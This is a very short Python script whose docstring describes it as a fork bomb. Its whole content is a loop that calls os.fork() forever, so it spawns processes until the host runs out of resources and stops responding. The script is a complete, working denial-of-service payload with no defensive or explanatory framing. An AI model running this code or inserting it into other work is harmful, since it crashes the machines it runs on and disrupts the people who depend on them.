"""A fork bomb: it forks without end."""

import os

while True:
    os.fork()
